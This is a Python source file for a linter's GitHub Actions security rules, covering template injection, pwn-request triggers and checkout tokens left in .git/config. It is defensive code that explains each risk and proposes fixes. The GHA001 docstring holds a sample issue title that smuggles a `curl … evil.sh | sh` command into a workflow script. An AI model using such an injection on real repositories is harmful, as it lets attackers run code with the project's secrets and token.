"""GHA: GitHub Actions workflow security — template injection, dangerous triggers, persisted
checkout credentials."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any, NamedTuple

from prodready.findings import Severity, Violation
from prodready.project import Project
from prodready.project.expressions import fenced, flowing_contexts
from prodready.project.workflows import (
    Expression,
    Script,
    Step,
    declared_inputs,
    env_value,
    is_action,
    job_of,
    jobs,
    shell_of,
    triggers,
)
from prodready.project.yamldoc import YamlDoc
from prodready.rules import rule

# Events that run with the base repository's secrets and a token that can write, for people
# with no access to the repository: whatever they put in the event's payload reaches the job.
PRIVILEGED = frozenset(
    {
        "pull_request_target",
        "issues",
        "issue_comment",
        "discussion",
        "discussion_comment",
        "workflow_run",
    }
)
PR_EVENTS = frozenset(
    {"pull_request_target", "pull_request", "pull_request_review", "pull_request_review_comment"}
)
# Text anyone with a GitHub account can write, and the events whose payload carries it.
_COMMIT = r"(?:message|author\.(?:name|email)|committer\.(?:name|email))"
EXTERNAL: tuple[tuple[re.Pattern[str], frozenset[str]], ...] = tuple(
    (re.compile(pattern), frozenset(events))
    for pattern, events in (
        (r"github\.event\.issue\.(?:title|body)", {"issues", "issue_comment"}),
        (
            r"github\.event\.pull_request\.(?:title|body|head\.ref|head\.label"
            r"|head\.repo\.(?:description|homepage|default_branch))",
            PR_EVENTS,
        ),
        (r"github\.head_ref", PR_EVENTS),
        (
            r"github\.event\.comment\.body",
            {
                "issue_comment",
                "discussion_comment",
                "pull_request_review_comment",
                "commit_comment",
            },
        ),
        (r"github\.event\.review\.body", {"pull_request_review"}),
        (r"github\.event\.discussion\.(?:title|body)", {"discussion", "discussion_comment"}),
        (r"github\.event\.(?:head_commit|commits\.\*)\." + _COMMIT, {"push"}),
        (
            r"github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\."
            + _COMMIT
            + r"|pull_requests\.\*\.head\.ref|head_repository\.description)",
            {"workflow_run"},
        ),
        (r"github\.event\.changes\.(?:title|body)\.from", {"issues", "pull_request_target"}),
        (r"github\.event\.pages\.\*\.page_name", {"gollum"}),
        (
            r"github\.event\.(?:check_run\.)?check_suite\.head_branch",
            {"check_suite", "check_run"},
        ),
    )
)
# Contexts whose values are fixed by GitHub or the repository's owners, or can hold no shell
# syntax (logins, numbers, commit ids, `branch`/`tag`, `true`).
FIXED = re.compile(
    r"(?:secrets|vars|runner|job|jobs|strategy|steps\.[^.]+\.(?:outcome|conclusion)"
    r"|needs\.[^.]+\.result)(?:\..*)?"
    r"|github\.(?:sha|run_id|run_number|run_attempt|repository|repository_id|repository_owner"
    r"|repository_owner_id|repositoryurl|workspace|action_path|action|action_ref|action_repository"
    r"|action_status|event_name|job|server_url|api_url|graphql_url|token|actor|actor_id"
    r"|triggering_actor|ref_type|ref_protected|retention_days|workflow|workflow_ref|workflow_sha"
    r"|path|env|output|secret_source)"
)
# A repository's name and owner/name: letters, digits, `-`, `_` and `.` only.
REPOSITORY_NAME = re.compile(r"github\.event\..*(?:repo|repository)\.(?:name|full_name)")
FIXED_LEAF = re.compile(
    r"(?:\w*_)?(?:sha|id|number|url|at|count|login|state|draft|merged|fork|private|size|before"
    r"|after|conclusion|status|distinct|timestamp|additions|deletions|changed_files|commits"
    r"|comments|locked|forced|created|deleted|ref_type|type|author_association|action"
    r"|run_number|run_attempt|event|head_sha|base_sha|merge_commit_sha|position|line)"
)
# Conditions that keep strangers out of a job or step: whose event, or who triggered it.
GATE = re.compile(
    r"author_association|github\.actor|triggering_actor|sender\.login|event_name|head\.repo\.fork"
    r"|head\.repo\.full_name|\.user\.login"
)
# Who can write a context's text: nobody (NONE), only people with write access to the repository
# (MEMBER: dispatch inputs, this repository's callers, branch and tag names, release text,
# computed matrices), the workflows of other repositories that use a published action or
# reusable workflow (CALLER), anyone with a GitHub account (EXTERNAL_TEXT).
NONE, MEMBER, CALLER, EXTERNAL_TEXT = 0, 1, 2, 3
# An input whose default is a switch or a number: its callers write a literal, not text.
SWITCH_DEFAULT = re.compile(r"true|false|yes|no|on|off|\d+(?:\.\d+)*", re.I)
RUNNER_VARIABLES = {
    "github.head_ref": "GITHUB_HEAD_REF",
    "github.base_ref": "GITHUB_BASE_REF",
    "github.ref": "GITHUB_REF",
    "github.ref_name": "GITHUB_REF_NAME",
}
NAME_SAFE = re.compile(r"[a-z_][\w-]*(?:\.[a-z_][\w-]*)+")
QUOTED_HEREDOC = re.compile(r"<<-?\s*(?:'|\"|\\)")


class Taint(NamedTuple):
    """Who can choose the text of a context: NONE, MEMBER (people with write access), CALLER
    (other repositories' workflows) or EXTERNAL_TEXT (anyone); `certain` when it reaches a job
    that runs with secrets for an event a stranger triggers, ungated."""

    level: int
    certain: bool = False
    origin: str = ""

    def worse(self, other: Taint) -> Taint:
        return other if (other.level, other.certain) > (self.level, self.certain) else self


class Scope(NamedTuple):
    """Where an expression is evaluated: the document, the job, the step's own `env:`."""

    doc: YamlDoc
    job: dict[str, Any]
    step: dict[str, Any]
    triggers: frozenset[str]
    before: tuple[dict[str, Any], ...] = ()  # the steps of the job that run before this one


# A job that checks who asked before the others run (`needs:` it): a permission lookup, an
# output named for the answer.
PERMISSION_CHECK = re.compile(
    r"author_association|getCollaboratorPermissionLevel|/collaborators/|\bpermission\b"
    r"|needs\.[\w-]+\.outputs\.[\w-]*(?:authori[sz]|permission|allowed|trusted|member)",
    re.I,
)


def _job_gated(doc: YamlDoc, job: dict[str, Any], depth: int = 0) -> bool:
    """True when the job runs only for some people: its `if:` says so, or a job it needs
    checks the permission of whoever started the run."""
    if GATE.search(str(job.get("if", ""))) or PERMISSION_CHECK.search(str(job.get("if", ""))):
        return True
    needs = job.get("needs")
    names = [needs] if isinstance(needs, str) else needs if isinstance(needs, list) else []
    table = dict(jobs(doc))
    for name in names:
        needed = table.get(str(name))
        if needed is None or depth > 4:
            continue
        steps = needed.get("steps")
        text = repr(steps) + str(needed.get("if", ""))
        if PERMISSION_CHECK.search(text) or _job_gated(doc, needed, depth + 1):
            return True
    return False


def _gated(scope: Scope) -> bool:
    return bool(GATE.search(str(scope.step.get("if", "")))) or _job_gated(scope.doc, scope.job)


def _context_taint(p: Project, context: str, scope: Scope, depth: int) -> Taint:
    """The taint of one context (a lower-case dotted pattern) in a scope."""
    if depth > 6 or FIXED.fullmatch(context) or REPOSITORY_NAME.fullmatch(context):
        return Taint(NONE)
    for pattern, events in EXTERNAL:
        if pattern.fullmatch(context):
            reached = events & scope.triggers & PRIVILEGED
            return Taint(EXTERNAL_TEXT, bool(reached) and not _gated(scope), context)
    head, _, rest = context.partition(".")
    if context.startswith("github.event.inputs."):
        head, rest = "inputs", context.removeprefix("github.event.inputs.")
    if head == "inputs":
        return _input_taint(p, rest, scope, depth)
    if head == "env":
        return _env_taint(p, rest, scope, depth)
    if head == "matrix":
        return _matrix_taint(p, rest, scope, depth)
    if head == "github":
        if context.startswith("github.event."):
            leaf = context.rpartition(".")[2]
            return Taint(NONE) if FIXED_LEAF.fullmatch(leaf) else Taint(MEMBER, False, context)
        if context in ("github.ref", "github.ref_name", "github.base_ref", "github.event"):
            return Taint(MEMBER, False, context)
        return Taint(NONE)
    return Taint(NONE)  # step and job outputs, functions of them: not followed


def _input_taint(p: Project, name: str, scope: Scope, depth: int) -> Taint:
    """A string input is text its caller chooses: a local caller's value is followed; a
    dispatch's, or a local caller's written value, is written by people with write access; a
    published action's or reusable workflow's callers are other repositories."""
    kind = declared_inputs(scope.doc).get(name)
    if kind in ("boolean", "number", "choice", "environment"):
        return Taint(NONE)
    origin = f"inputs.{name}" if name else "inputs"
    published = _published(p, scope.doc) and not _switch(scope.doc, name)
    taint = Taint(CALLER if published else MEMBER, False, origin)
    for call in p.workflows.callers_of(scope.doc.path):
        value = next((v for k, v in call.with_.items() if str(k).lower() == name), None)
        values = [value] if name else list(call.with_.values())
        for value in (v for v in values if isinstance(v, str)):
            job = dict(jobs(call.doc)).get(call.job, {}) if not is_action(call.doc) else {}
            caller = Scope(call.doc, job, {}, frozenset(p.workflows.effective_triggers(call.doc)))
            found = _text_taint(p, value, caller, depth + 1)
            if found.level > MEMBER:
                taint = taint.worse(found)
    return taint


def _published(p: Project, doc: YamlDoc) -> bool:
    """True for an action or reusable workflow that other repositories use: an action outside
    `.github/` (the repository's root `action.yml` above all), a workflow called by no workflow
    of the repository that is not also started by hand or by an event."""
    if is_action(doc):
        return not doc.path.startswith(".github/")
    own = triggers(doc)
    return own == {"workflow_call"} and not p.workflows.callers_of(doc.path)


def _switch(doc: YamlDoc, name: str) -> bool:
    """True for an action input whose default is a switch or a number (`'yes'`, `'true'`,
    `'0'`): its callers write a literal."""
    table = _data(doc).get("inputs") if is_action(doc) else None
    for key, spec in table.items() if isinstance(table, dict) and name else []:
        if str(key).lower() == name and isinstance(spec, dict) and "default" in spec:
            return bool(SWITCH_DEFAULT.fullmatch(str(spec["default"]).strip()))
    return False


def _env_taint(p: Project, name: str, scope: Scope, depth: int) -> Taint:
    """A variable set by `env:` is as tainted as its value; one set elsewhere (`$GITHUB_ENV`)
    is not followed."""
    for env in (scope.step.get("env"), scope.job.get("env"), _data(scope.doc).get("env")):
        if isinstance(env, dict):
            for key, value in env.items():
                if str(key).lower() == name:
                    return _text_taint(p, str(value), scope, depth + 1)
    # written to $GITHUB_ENV by an earlier step: as tainted as what that step expands
    taint = Taint(NONE)
    written = re.compile(rf"(?<![\w-]){re.escape(name)}=", re.I)
    for step in scope.before:
        script = str(step.get("run", ""))
        if "GITHUB_ENV" in script and written.search(script):
            env = step.get("env")
            values = (
                [script, *(str(v) for v in env.values())] if isinstance(env, dict) else [script]
            )
            inner = scope._replace(step=step, before=())
            for value in values:
                taint = taint.worse(_text_taint(p, value, inner, depth + 1))
    return taint


def _matrix_taint(p: Project, name: str, scope: Scope, depth: int) -> Taint:
    """A matrix value written in the workflow is fixed; one computed (`fromJSON(...)`) or
    holding expressions is as tainted as they are, and an unknown one is text."""
    strategy = scope.job.get("strategy")
    matrix = strategy.get("matrix") if isinstance(strategy, dict) else None
    if isinstance(matrix, str):
        found = _text_taint(p, matrix, scope, depth + 1)
        return found if found.level else Taint(MEMBER, False, f"matrix.{name}")
    if not isinstance(matrix, dict):
        return Taint(NONE)
    key = name.partition(".")[0]
    values = [v for k, v in matrix.items() if str(k).lower() == key]
    include = matrix.get("include")
    if isinstance(include, str):
        values.append(include)
    for entry in include if isinstance(include, list) else []:
        if isinstance(entry, dict):
            values += [v for k, v in entry.items() if str(k).lower() == key]
    taint = Taint(NONE)
    for value in values:
        taint = taint.worse(_text_taint(p, repr(value), scope, depth + 1))
        if isinstance(value, str) and value.strip().startswith("${{") and not taint.level:
            taint = Taint(MEMBER, False, f"matrix.{name}")
    return taint


def _text_taint(p: Project, text: str, scope: Scope, depth: int) -> Taint:
    """The worst taint of the expressions in a text."""
    taint = Taint(NONE)
    for _, inner in fenced(text):
        for context in flowing_contexts(inner) or []:
            taint = taint.worse(_context_taint(p, context, scope, depth))
    return taint


def _data(doc: YamlDoc) -> dict[str, Any]:
    return doc.data if isinstance(doc.data, dict) else {}


def _scope(p: Project, step: Step) -> Scope:
    job = job_of(step)
    if step.in_action:
        runs = _data(step.doc).get("runs")
        listed = runs.get("steps") if isinstance(runs, dict) else None
    else:
        listed = job.get("steps")
    before = tuple(
        s
        for s in (listed if isinstance(listed, list) else [])[: step.position]
        if isinstance(s, dict)
    )
    return Scope(
        step.doc, job, step.data, frozenset(p.workflows.effective_triggers(step.doc)), before
    )


class Injection(NamedTuple):
    script: Script
    expression: Expression
    taint: Taint
    context: str  # the one context of the expression, when it is nothing else


def injections(p: Project) -> Iterator[Injection]:
    """Every expression of a script that can bring in text someone else chose."""
    for script in p.workflows.scripts:
        scope = _scope(p, script.step)
        for expression in script.expressions:
            flows = flowing_contexts(expression.inner)
            taint = Taint(NONE)
            for context in flows or []:
                taint = taint.worse(_context_taint(p, context, scope, 0))
            if taint.level:
                inner = expression.inner.strip()
                single = inner.lower() if flows == [inner.lower()] else ""
                yield Injection(script, expression, taint, single)


@rule(
    "GHA001",
    "template-injection",
    severity="E",
    fix="safe",
    source="GitHub Docs, Security hardening for GitHub Actions: understanding the risk of script injections (https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections)",
    peers=("zizmor:template-injection", "scorecard:Dangerous-Workflow"),
)
def template_injection(p: Project) -> Iterator[Violation]:
    """A `${{ }}` expression that someone else can write is expanded inside a script.

    ## What it does
    Reads the expressions inside `run:` scripts and inside the inputs that actions run as code
    (`actions/github-script`'s `script:`, and the others of CodeQL's list of injection sinks),
    in workflows and in the repository's composite actions, and reports each whose text can be
    chosen by someone else: the title or body of an issue, a pull request, a comment, a review
    or a discussion, a pull request's branch (`github.head_ref`, `head.ref`), a commit message
    or author, the branch of a `workflow_run`, string inputs of `workflow_dispatch` and
    `workflow_call` (and of composite actions), branch and tag names (`github.ref_name`,
    `github.base_ref`), and the `env:` variables and matrix values computed from any of these.
    Expressions are read as GitHub evaluates them: `contains(github.event.issue.title, 'bug')` or
    `github.head_ref == 'main'` are booleans and stay quiet. Local reusable workflows and
    composite actions are followed: an input is as dangerous as what a local caller passes.

    The severity says who can write the text, as a class:

    - **error**: anyone with a GitHub account (an issue's, pull request's, comment's, review's
      or discussion's text, a pull request's branch, a fork's data, the branch of a
      `workflow_run`), for an event that gives strangers the repository's secrets and a token
      that can write (`issues`, `issue_comment`, `pull_request_target`, `workflow_run`,
      `discussion`), and nothing gates the job or step (an `if:` on `author_association`,
      `github.actor`, `github.event_name`, the pull request's repository, or a needed job that
      checks the commenter's permission).
    - **warning**: the same text where the job holds no secrets for strangers (`pull_request`,
      a commit message on `push`) or only some people start it; and the inputs of a published
      action or reusable workflow (the repository's root `action.yml`, an action outside
      `.github/`, a reusable workflow no workflow of the repository calls), whose callers are
      other repositories that may pass their own untrusted text. An input whose default is a
      switch or a number (`'yes'`, `'true'`, `'0'`) is written as a literal by its callers:
      info.
    - **info**: text only people with write access can set: `workflow_dispatch` inputs,
      `workflow_call` and composite action inputs whose callers are this repository's own
      workflows (what those pass is followed), branch and tag names of pushes
      (`github.ref_name`, `github.base_ref`), release text, labels, a `repository_dispatch`
      payload, and matrices computed from the repository's own files (under `pull_request`
      those files are the pull request's, whose author runs their own code there anyway). It
      is hardening, not an exploitable hole: a tag named `$(curl …)` is an attack only by
      someone who could push code. It is still reported, since a value typed in a hurry can
      break the script, and moving it to `env:` costs nothing.

    Quiet for contexts that hold no shell syntax (commit ids, numbers, logins, repository
    names, `github.ref_type`, `secrets.*`, `runner.*`), for booleans and choices of typed
    inputs, for matrix values written in the workflow, and for step and job outputs (not
    followed).

    ## Why it matters
    GitHub pastes the expression's text into the script before the shell reads it: an issue
    titled `a"; curl -sSf evil.sh | sh; echo "` runs the attacker's commands with the workflow's
    token and secrets. Every year, projects lose their release credentials this way.

    ## Example
    ```yaml
    on: issues
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - run: echo "New issue: ${{ github.event.issue.title }}"
    ```

    ## Use instead
    ```yaml
          - run: echo "New issue: $TITLE"
            env:
              TITLE: ${{ github.event.issue.title }}
    ```

    ## Fix
    `prodready fix` moves an expression that is one context into the step's `env:` and has the
    script read the variable (`"${TITLE}"`; `$env:TITLE` in PowerShell; the runner's own
    `GITHUB_HEAD_REF` and `GITHUB_REF_NAME` are used as they are), in `run:` scripts of bash,
    sh and pwsh only, and not where the expression sits inside single quotes or a quoted
    here-document (where a variable would not expand). Scripts of `actions/github-script` read
    the variable as `process.env.TITLE`: edit those by hand.
    """
    for found in injections(p):
        script, expression, taint = found.script, found.expression, found.taint
        where = (
            "a run: script"
            if script.is_run
            else f"the {script.keys[-1]} input of {script.step.action}"
        )
        why = _why(taint)
        line_start = script.step.doc.text.rfind("\n", 0, expression.offset) + 1
        yield Violation(
            f"{expression.raw.strip()} is expanded into {where}: {why}; pass it through env: instead",
            script.step.doc.path,
            expression.line,
            expression.offset - line_start + 1,
            _env_fix(p, found),
            fixable=bool(_env_fix(p, found)),
            severity=_severity(taint),
        )


def _severity(taint: Taint) -> Severity | None:
    """The rule's error where a stranger reaches the secrets, a warning where strangers or other
    repositories write the text, info where only people with write access do."""
    if taint.certain:
        return None
    return Severity.WARNING if taint.level >= CALLER else Severity.INFO


def _why(taint: Taint) -> str:
    origin = taint.origin
    if taint.certain:
        return f"anyone can write {origin} for an event that starts this job with its secrets"
    if taint.level == EXTERNAL_TEXT:
        return f"anyone can write {origin}"
    if taint.level == CALLER:
        return f"{origin} is written by the workflows of other repositories that use this one"
    if origin.startswith("inputs"):
        return f"{origin} is chosen by whoever dispatches the workflow or calls it in this repository (people with write access)"
    if origin.startswith("matrix."):
        return f"{origin} is computed while the workflow runs, from the repository's own files"
    if origin in ("github.ref", "github.ref_name", "github.base_ref") or origin.endswith("ref"):
        return f"{origin} is a branch or tag name, pushed by people with write access"
    return f"{origin} is written by people with write access (a release, a label, a dispatch)"


def _env_fix(p: Project, found: Injection) -> tuple[str | int, ...]:
    """What the fixer needs to move the expression into `env:`: (variable, text to write in the
    script, the expression as written, key path of the script), or () where no safe fix is
    known."""
    script, context = found.script, found.context
    if not script.is_run or not context or not NAME_SAFE.fullmatch(context):
        return ()
    shell = shell_of(script.step).split()[0] if shell_of(script.step).strip() else ""
    runs_on = str(job_of(script.step).get("runs-on", "")).lower()
    if shell == "" and not script.step.in_action:
        shell = "pwsh" if "windows" in runs_on else "bash"
    if shell not in ("bash", "sh", "pwsh"):
        return ()
    if context.startswith("env."):
        name = context[4:]
        if env_value(script.step, name) is None or not re.fullmatch(r"[A-Za-z_]\w*", name):
            name = ""
        else:
            # `${{ env.X }}` and `$X` are the same text only when `env:` spells X in this case
            name = next((k for k in _env_names(script.step) if k == name or k.lower() == name), "")
    else:
        short = context.removeprefix("github.event.").removeprefix("github.")
        name = RUNNER_VARIABLES.get(context) or short.replace("-", "_").replace(".", "_").upper()
        value = env_value(script.step, name)
        if value is not None and " ".join(str(value).split()) != f"${{{{ {context} }}}}":
            return ()  # the name is taken by another value
    if not name:
        return ()
    raw = found.expression.raw
    if not _expands_where_written(script, raw):
        return ()
    written = f"$env:{name}" if shell == "pwsh" else f"${{{name}}}"
    return (name, written, raw, *script.keys)


def _env_names(step: Step) -> list[str]:
    job_env = job_of(step).get("env")
    workflow = _data(step.doc).get("env")
    names: list[str] = []
    for env in (step.env, job_env, workflow):
        names += [str(k) for k in env] if isinstance(env, dict) else []
    return names


def _expands_where_written(script: Script, raw: str) -> bool:
    """True when a shell variable written where the expression is would expand: not inside
    single quotes on its line, and the script has no quoted here-document."""
    if QUOTED_HEREDOC.search(script.text):
        return False
    for line in script.text.splitlines():
        at = line.find(raw)
        while at >= 0:
            if _in_single_quotes(line[:at]):
                return False
            at = line.find(raw, at + 1)
    return raw in script.text


def _in_single_quotes(prefix: str) -> bool:
    quote = ""
    escaped = False
    for char in prefix:
        if escaped:
            escaped = False
        elif char == "\\" and quote != "'":
            escaped = True
        elif quote:
            quote = "" if char == quote else quote
        elif char in "'\"":
            quote = char
    return quote == "'"


# A checkout of the code that started a `workflow_run`, or of a pull request named in a comment.
RUN_HEAD = re.compile(
    r"github\.event\.workflow_run\.(?:head_sha|head_branch|head_commit\.id|pull_requests)"
)
COMMENTED_PR = re.compile(
    r"refs/pull/|github\.event\.issue\.pull_request|github\.event\.issue\.number"
    r"|steps\.[\w-]+\.outputs\.(?:head_?(?:ref|sha)|pr_?head\w*|ref|sha)"
    r"|needs\.[\w-]+\.outputs\.(?:head_?(?:ref|sha)|pr_?head\w*)",
    re.I,
)
PR_CHECKOUT_COMMAND = re.compile(r"\bgh\s+pr\s+checkout\b|\bgit\s+fetch\b[^\n]*\bpull/")
SAME_REPOSITORY_RUN = re.compile(
    r"head_repository\.full_name\s*==|==\s*github\.event\.workflow_run\.head_repository\.full_name"
    r"|head_repository\.fork\s*==\s*false|workflow_run\.event\s*==\s*'push'"
    r"|workflow_run\.event\s*!=\s*'pull_request'"
)
RUN_ARTIFACT = re.compile(r"github\.event\.workflow_run\.id|workflow_run")
ARTIFACT_ACTIONS = ("actions/download-artifact", "dawidd6/action-download-artifact")
EXECUTES = r"(?:bash|sh|source|\.|python3?|node|sudo|chmod\s+\+x)\s+"


def _job_steps(p: Project, step: Step) -> list[Step]:
    listed = p.workflows.action_steps if step.in_action else p.workflows.steps
    return [s for s in listed if s.doc is step.doc and s.job == step.job]


def _runs_after(p: Project, step: Step) -> bool:
    """True when a later step of the job runs code of the working tree."""
    from prodready.rules.sec import RUNS_WORKSPACE

    return any(
        later.position > step.position
        and (later.uses.startswith("./") or bool(RUNS_WORKSPACE.search(later.run)))
        for later in _job_steps(p, step)
    )


def _gated_to_members(step: Step) -> bool:
    scope_if = f"{job_of(step).get('if', '')} {step.data.get('if', '')}"
    if GATE.search(scope_if) or SAME_REPOSITORY_RUN.search(" ".join(scope_if.split())):
        return True
    return not step.in_action and _job_gated(step.doc, job_of(step))


@rule(
    "GHA002",
    "dangerous-triggers",
    severity="E",
    source="GitHub Security Lab, Keeping your GitHub Actions and workflows secure: preventing pwn requests (https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/)",
    peers=("zizmor:dangerous-triggers", "scorecard:Dangerous-Workflow"),
)
def dangerous_triggers(p: Project) -> Iterator[Violation]:
    """A privileged workflow runs code from a fork: a `workflow_run` or a comment's pull request.

    ## What it does
    Reports, as an **error**, a checkout in a `workflow_run` workflow of the code that started the
    run (`ref:` from `github.event.workflow_run.head_sha`, `head_branch`, its pull requests),
    and a checkout in an `issue_comment` workflow of the pull request commented on
    (`refs/pull/…`, `gh pr checkout`, a head ref or sha from an earlier step), when a later step
    of the job runs code of the working tree (an install, a build, an interpreter, a script of
    the checkout, a local action). Reports as a **warning** an artifact downloaded from the
    triggering run (`run-id: ${{ github.event.workflow_run.id }}`) that a later step executes
    (`bash`, `python`, `source`, `./` on a file of the artifact's folder).

    Quiet when the job or step runs only for the repository's own branches or members (an `if:`
    on `head_repository.full_name`, `workflow_run.event == 'push'`, `author_association`,
    `github.actor`), and for a checkout that only reads files. `pull_request_target` checkouts
    of the pull request are SEC008's. Unlike zizmor's `dangerous-triggers`, which reports every
    use of `workflow_run` and `pull_request_target`, a trigger used safely (posting a coverage
    comment, labelling) is not reported.

    ## Why it matters
    `workflow_run` and `issue_comment` run in the base repository with its secrets and a token
    that can write, even when a fork started them: running the fork's code there hands both to
    its author ("pwn request"). An artifact of the triggering run was built by that code too.

    ## Example
    ```yaml
    on:
      workflow_run:
        workflows: [CI]
        types: [completed]
    jobs:
      report:
        runs-on: ubuntu-latest
        steps:
          - uses: actions/checkout@v4
            with:
              ref: ${{ github.event.workflow_run.head_sha }}
          - run: pip install . && python scripts/report.py
    ```

    ## Use instead
    Check out the base repository (no `ref:`) and treat the triggering run's artifacts as data:
    read them, never execute them; or run the job only for the repository's own branches:
    ```yaml
        if: github.event.workflow_run.head_repository.full_name == github.repository
    ```

    ## Fix
    Not automatic: which code the job may run is a decision of the workflow's authors.
    """
    for step in p.workflows.steps:
        events = p.workflows.effective_triggers(step.doc)
        if _gated_to_members(step):
            continue
        if "workflow_run" in events:
            yield from _workflow_run_findings(p, step)
        if "issue_comment" in events:
            ref = str(step.with_.get("ref", ""))
            checks_out = (step.action == "actions/checkout" and COMMENTED_PR.search(ref)) or (
                PR_CHECKOUT_COMMAND.search(step.run)
            )
            if checks_out and _runs_after(p, step):
                yield Violation(
                    "an issue_comment workflow checks out the commented pull request and runs its code with the repository's secrets",
                    step.doc.path,
                    step.line,
                    1,
                )


def _workflow_run_findings(p: Project, step: Step) -> Iterator[Violation]:
    if step.action == "actions/checkout":
        ref = f"{step.with_.get('ref', '')} {step.with_.get('repository', '')}"
        if RUN_HEAD.search(ref) and _runs_after(p, step):
            yield Violation(
                "a workflow_run workflow checks out the triggering run's code and runs it with the repository's secrets",
                step.doc.path,
                step.line,
                1,
            )
    if step.action in ARTIFACT_ACTIONS:
        options = " ".join(str(v) for v in step.with_.values())
        folder = str(step.with_.get("path", "")).strip().removeprefix("./").rstrip("/")
        if not RUN_ARTIFACT.search(options) or not folder or folder.startswith("${{"):
            return
        executes = re.compile(
            rf"(?:^|[\s;&|(]){EXECUTES}(?:\./)?{re.escape(folder)}/|(?:^|[\s;&|(])\./{re.escape(folder)}/",
            re.M,
        )
        for later in _job_steps(p, step):
            if later.position > step.position and executes.search(later.run):
                yield Violation(
                    f"an artifact of the triggering run is downloaded to {folder}/ and executed with the repository's secrets",
                    step.doc.path,
                    step.line,
                    1,
                    severity=Severity.WARNING,
                )
                return


# Actions that push with the credentials a checkout leaves in `.git/config`, or whose name
# says they may (commits, pages, releases, tags): their jobs keep the credentials.
PUSHING_ACTIONS = re.compile(
    r"peter-evans/create-pull-request|stefanzweifel/git-auto-commit-action|endbug/add-and-commit"
    r"|ad-m/github-push-action|actions-js/push|github-actions-x/commit|jamesives/github-pages-deploy-action"
    r"|python-semantic-release/|(?:^|/)[^/]*(?:commit|push|pages|deploy|release|bump|version|tag"
    r"|changelog|pull-request|backport|merge|sync|mirror|publish|autofix|format|pre-commit)"
    r"|(?:^|/|-)git(?:-|$)",
    re.I,
)
PUSHING_COMMANDS = re.compile(
    r"\bgit\b[^\n]*\b(?:push|pull|fetch|remote|submodule|ls-remote|tag)\b|\bgh-deploy\b"
    r"|\bghp-import\b|--push\b|\bsemantic-release\b|\bcz\s+bump\b|\bbump-my-version\b"
    r"|\btowncrier\b|\bpre-commit\b|\bgit\s+-C\b|\bgit\s+config\b"
)
WORKSPACE_PATHS = re.compile(
    r"^(?:\.|\./|\.\.|\.\./|\$\{\{\s*github\.workspace\s*\}\}/?)$|(?:^|/)\.git(?:/|$)"
)


def _pushes(p: Project, checkout: Step) -> bool:
    """True when something in the checkout's job may use the persisted credentials (a git
    command that talks to the remote, an action that commits, a local action or reusable
    step that is not read)."""
    for step in _job_steps(p, checkout):
        if step.position <= checkout.position:
            continue
        if PUSHING_COMMANDS.search(step.run) or (step.uses and PUSHING_ACTIONS.search(step.action)):
            return True
        if step.uses.startswith("./"):
            return True
    return False


def _uploads_workspace(p: Project, checkout: Step) -> bool:
    for step in _job_steps(p, checkout):
        if step.position > checkout.position and step.action == "actions/upload-artifact":
            paths = str(step.with_.get("path", "")).split("\n")
            if any(WORKSPACE_PATHS.search(path.strip()) for path in paths if path.strip()):
                return True
    return False


@rule(
    "GHA003",
    "artipacked",
    fix="safe",
    source="zizmor artipacked, after Palo Alto Networks Unit 42 'ArtiPACKED' (https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/)",
    peers=("zizmor:artipacked",),
)
def artipacked(p: Project) -> Iterator[Violation]:
    """`actions/checkout` leaves the job's token in `.git/config`.

    ## What it does
    Reports `actions/checkout` steps (in workflows and in local composite actions) without
    `persist-credentials: false`. It is a **warning** when a later step of the job uploads the
    working tree as an artifact (`path: .`, `${{ github.workspace }}`, `.git`), which publishes
    the token to anyone who can download the artifact; otherwise it is **info**: every later
    step of the job, and every tool it installs, can read the token from `.git/config`.
    Quiet for checkouts that set `persist-credentials` (to `true` it is a choice).

    ## Why it matters
    The checkout writes the `GITHUB_TOKEN` (or the `token:` given) into `.git/config` so that
    later `git push` works. A job that never pushes does not need it there, and an uploaded
    workspace or a compromised build dependency can take it ("ArtiPACKED", 2024).

    ## Example
    ```yaml
    - uses: actions/checkout@v4
    - run: pip install . && pytest
    - uses: actions/upload-artifact@v4
      with:
        path: .
    ```

    ## Use instead
    ```yaml
    - uses: actions/checkout@v4
      with:
        persist-credentials: false
    ```

    ## Fix
    `prodready fix` adds `persist-credentials: false` to checkouts whose job does not use the
    credentials: no later `git push`/`fetch`/`pull`/`tag`/`remote`/`submodule` command, no
    `gh-deploy`, `ghp-import`, `--push`, `semantic-release`, `pre-commit`, no local action
    (not read), no action whose name says it commits, pushes, deploys, releases or formats
    (`peter-evans/create-pull-request`, `stefanzweifel/git-auto-commit-action`,
    `EndBug/add-and-commit`, `ad-m/github-push-action` …), and no `token:` or `ssh-key:` given
    to the checkout. The others are left to be edited by hand.
    """
    for step in p.workflows.steps + p.workflows.action_steps:
        if step.action != "actions/checkout" or "persist-credentials" in step.with_:
            continue
        uploads = _uploads_workspace(p, step)
        keeps = _pushes(p, step) or "token" in step.with_ or "ssh-key" in step.with_
        message = (
            "the checkout leaves the job's token in .git/config and a later step uploads the working tree"
            if uploads
            else "the checkout leaves the job's token in .git/config for every later step; set persist-credentials: false"
        )
        yield Violation(
            message,
            step.doc.path,
            step.doc.line_of(*step.path, "uses"),
            1,
            tuple(step.path) if not keeps else (),
            fixable=not keeps,
            severity=None if uploads else Severity.INFO,
        )
